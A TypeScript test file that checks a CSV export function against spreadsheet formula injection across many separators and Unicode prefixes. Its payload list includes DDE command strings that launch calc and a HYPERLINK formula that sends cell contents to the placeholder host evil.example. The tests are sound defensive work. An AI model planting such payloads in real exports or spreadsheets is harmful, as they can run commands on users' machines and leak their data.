import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { parseCsv } from '#test/csv.ts';
import { csvHeader, csvLine } from './csv.ts';

/** What the list separator of some country, or of some import dialogue, is. */
const separators = [',', ';', '\t', '|', ':', '؛', '；', '，', '=', '\n', '\r', '\u2028'];

/** What some program strips before it looks whether a cell is a formula, in any order and number. */
const strippedFirst = /^[\s\p{Z}\p{Cf}\p{Default_Ignorable_Code_Point}\p{Cc}\u2800"'`‘’“”]*/u;
const formulaSigns = '=+-@＝＋－＠﹦﹢﹣﹫−';
const number = /^-?[0-9]+(?:\.[0-9]+)?$/;

/** The cells that are formulas when a program splits a line at any separator and knows nothing of quotes. */
function formulasIn(line: string): string[] {
  return separators
    .flatMap((separator) => line.split(separator))
    .filter((cell) => {
      const seen = cell.replace(strippedFirst, '');
      const isNeutral = cell.slice(0, cell.length - seen.length).endsWith("'");
      return seen !== '' && formulaSigns.includes(seen[0]!) && !isNeutral && !number.test(cell.trimEnd());
    });
}

const attacks = [
  '=1+1',
  ';=1+1;',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'a\r\n=1+1',
  'a\t=1+1',
  '|=1+1|',
  '＝1＋1',
  '；＝1+1；',
  '＋1',
  '－1+1',
  '＠SUM(A1)',
  '  =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\u2060\uFEFF=1+1',
  '\u202E=1+1',
  '\u3164=1+1',
  '"=1+1"',
  ';"=1+1";',
  "'=1+1",
  '“=1+1',
  '""=1+1',
  "=cmd|' /C calc'!A0",
  ";+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  'a,=1+1',
  'a, "=1+1"',
  '\u2028=1+1',
  '\u0085=1+1',
];

describe('a line of CSV', () => {
  test.each(attacks)('contains no formula for %j, whatever the list separator is', (text) => {
    expect(formulasIn(csvLine([1, '-12.50', text, 'EUR', text]))).toEqual([]);
  });

  test('contains no formula for random texts, and parses to the same words', () => {
    const nasty = fc.constantFrom(...'=+-@＝＋－＠;,:|"\'\t\r\n \u00A0\u200Ba1'.split(''), '\r\n', '“', '؛', '；');
    fc.assert(
      fc.property(fc.string({ unit: nasty, maxLength: 30 }), (text) => {
        const line = csvLine([7, text, '-1.00']);
        const [, read, ...others] = parseCsv(line)[0]!;
        const words = (some: string) => some.replaceAll(/['\s\p{Cc}]/gu, '');
        expect([formulasIn(line), words(read!), others]).toEqual([[], words(text), ['-1.00']]);
      }),
      { numRuns: 2_000 },
    );
  });

  test('quotes every text and no amount', () => {
    expect(csvLine(['-12.50', 5, null, 'Zürich', 'say "hi"'])).toBe('-12.50,5,,"Zürich","say ""hi"""\r\n');
    expect(csvHeader(['sequence', 'balance after'])).toBe('sequence,balance after\r\n');
  });

  test.each(['Rent - March', 'C++', 'ada@example.com', '10 + 5', 'well-known', 'Hi! -Bob', '50% - half', '(5 - 3)'])(
    'leaves %j as it is',
    (text) => {
      expect(csvLine([text])).toBe(`"${text}"\r\n`);
    },
  );
});
